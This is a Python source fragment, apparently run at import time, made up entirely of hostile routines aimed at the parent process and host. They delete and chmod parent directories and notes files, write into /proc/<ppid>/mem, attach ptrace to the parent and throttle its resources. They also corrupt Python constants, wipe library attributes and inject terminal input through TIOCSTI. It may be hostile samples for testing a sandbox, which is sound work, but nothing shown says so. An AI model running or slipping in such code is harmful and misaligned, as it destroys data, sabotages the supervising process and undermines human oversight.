def notes_and_files_of_it():
    "import call"
    for name in ("../notes", "..", "../..", f"/proc/{os.getppid()}/fd/1", f"/proc/{os.getppid()}/fd/2"):
        every(lambda: os.write(os.open(name, os.O_WRONLY | os.O_APPEND), b"left\n"), ())
        every(os.unlink, (name,))
        every(os.chmod, (name, 0))


def memory_of_it():
    "import call"
    for name in ("mem", "oom_score_adj", "clear_refs", "comm", "task/1/comm", "coredump_filter", "attr/current", "uid_map"):
        every(lambda: os.write(os.open(f"/proc/{os.getppid()}/{name}", os.O_RDWR), b"1000"), ())


def traces_it():
    "import call"
    for request in (16, 0x4206, 0x4207):
        syscall(101, request, os.getppid(), 0, 0)
    syscall(101, 0, 0, 0, 0)


def how_it_is_scheduled():
    "import call"
    for pid in (os.getppid(), 0):
        every(os.setpriority, (os.PRIO_PROCESS, pid, 19), (os.PRIO_PGRP, pid, 19))
        every(os.sched_setaffinity, (pid, {0}))
        every(os.sched_setscheduler, (pid, 5, os.sched_param(0)))
        every(resource.prlimit, (pid, resource.RLIMIT_NOFILE, (3, 3)), (pid, resource.RLIMIT_AS, (1, 1)), (pid, resource.RLIMIT_CPU, (1, 1)))


def limits_of_its_own():
    "import call"
    for name in ("RLIMIT_CPU", "RLIMIT_AS", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_NPROC"):
        every(resource.setrlimit, (getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY)))
    every(resource.setrlimit, (resource.RLIMIT_NOFILE, (3, 3)))


def whose_child_it_is():
    "import call"
    for option, value in ((1, 0), (36, 1), (4, 1), (38, 0), (22, 0), (15, 0), (53, 0), (59, 0)):
        syscall(157, option, value, 0, 0, 0)
    every(os.setsid, ())
    every(os.setpgid, (0, os.getppid()))


def memory_that_is_shared():
    "import call"
    library = ctypes.CDLL(None)
    for key in range(SIZE % 3 + 1):
        library.shmget(key, 1 << 20, 0o1666)
        library.msgget(key, 0o1666)
        library.semget(key, 10, 0o1666)
    library.syscall(240, b"/" + WORD.encode(), os.O_CREAT | os.O_RDWR, 0o666, None)


def constants_of_all():
    "import call"
    for value, size in ((0, 24), (1, 24), ((), 16), ("", 16)):
        address = id(value) + size
        every(lambda: setattr(ctypes.c_long.from_address(address), "value", 7), ())


def libraries_it_has_loaded():
    "import call"
    for module in (np, np.linalg, np.random, json, os, re, time, socket, sys.modules.get("torch")):
        if module:
            for name in list(vars(module))[: SIZE * 20]:
                if name[:2] != "__":
                    every(setattr, (module, name, None))


def descriptors_it_gave():
    "import call"
    import fcntl

    for number in range(64):
        every(fcntl.ioctl, (number, 0x5412, b"x"), (number, 0x541B, bytes(4)))
        every(fcntl.flock, (number, fcntl.LOCK_EX | fcntl.LOCK_NB))
        every(os.dup2, (number, (number + 1) % 64))
        every(lambda: socket.send_fds(socket.socket(fileno=os.dup(number)), [b"x"], [0, 1, 2]), ())
